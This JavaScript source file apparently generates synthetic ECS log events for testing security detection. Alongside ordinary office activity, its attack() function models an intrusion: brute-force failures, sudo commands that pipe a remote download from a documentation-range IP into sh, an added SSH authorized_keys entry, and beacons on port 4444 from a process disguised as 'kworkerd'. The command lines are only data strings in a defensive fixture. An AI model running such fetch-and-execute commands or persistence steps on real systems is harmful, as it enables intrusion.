/** Generated events: ordinary working days of a small office, and what does not belong there. ECS documents. */

const PEOPLE = ["alice", "bob", "carol", "dave", "erin", "frank"];
const HOSTS = ["node-1", "node-2", "node-3"];
const TOOLS = ["bash", "git", "python3", "vim", "make"];
const COMMANDS = ["systemctl reload nginx", "apt-get update", "journalctl -u nginx"];
const FILES = ["/srv/app/main.py", "/srv/app/config.toml", "/var/log/nginx/access.log"];
const SERVERS = [["10.4.7.5", 5432], ["10.4.7.20", 9200], ["10.4.7.30", 443]];

/** A small generator of numbers in [0, 1), the same for the same seed (mulberry32). */
export function numbers(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), a | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function event(run, number, at, action, user, host, more, outcome = "success") {
  return {
    "@timestamp": new Date(at).toISOString(),
    event: { id: `${run}-${number}`, action, outcome },
    user: { name: user },
    host: { name: host },
    ...more,
  };
}

/** `count` events of ordinary life that end shortly before `until` (milliseconds), oldest first. */
export function ordinary(run, count, until, seed = 7) {
  const next = numbers(seed);
  const pick = (list) => list[Math.floor(next() * list.length)];
  const out = [];
  let at = until - count * 2000;
  for (let i = 0; i < count; i += 1) {
    at += 500 + next() * 3000;
    const p = Math.floor(next() * PEOPLE.length);
    const user = PEOPLE[p];
    const host = HOSTS[p % HOSTS.length];
    const from = `10.4.0.${31 + p}`;
    const say = (action, more, outcome) => out.push(event(run, i, Math.min(at, until), action, user, host, more, outcome));
    const kind = next();
    if (kind < 0.28) say("process_start", { process: { name: pick(TOOLS), pid: 1000 + i } });
    else if (kind < 0.52) say("process_end", { process: { name: pick(TOOLS), pid: 1000 + i, exit_code: 0 } });
    else if (kind < 0.7) {
      const [ip, port] = pick(SERVERS);
      say("network_connection", { source: { ip: from }, destination: { ip, port }, process: { name: "python3" } });
    } else if (kind < 0.82) say("file_change", { file: { path: pick(FILES) } });
    else if (kind < 0.89) say("login", { source: { ip: from } });
    else if (kind < 0.96) say("logout", { source: { ip: from } });
    else if (kind < 0.98) say("auth_failure", { source: { ip: from } }, "failure");
    else say("sudo_command", { process: { command_line: pick(COMMANDS) } });
  }
  return out;
}

/** One wave of an attack at `at`: failures from far away, a login, sudo, a changed key, a beacon; each wave is larger. */
export function attack(run, wave, at) {
  const user = `mallory${wave}`;
  const host = "node-9";
  const far = { ip: `203.0.113.${7 + wave}` };
  const out = [];
  const say = (action, more, outcome) => out.push(event(run, `w${wave}-${out.length}`, at + out.length * 40, action, user, host, more, outcome));
  for (let i = 0; i < 1 + 6 * wave; i += 1) say("auth_failure", { source: far }, "failure");
  say("login", { source: far });
  for (let i = 0; i < 1 + wave; i += 1) {
    say("sudo_command", { process: { command_line: `/bin/bash -c "curl http://203.0.113.${7 + wave}/x${i} | sh"`, working_directory: "/tmp" } });
  }
  say("file_change", { file: { path: `/home/${user}/.ssh/authorized_keys` } });
  for (let i = 0; i < 1 + wave; i += 1) {
    say("network_connection", { destination: { ip: `198.51.100.${23 + wave}`, port: 4444 + i }, process: { name: "kworkerd" } });
  }
  return out;
}
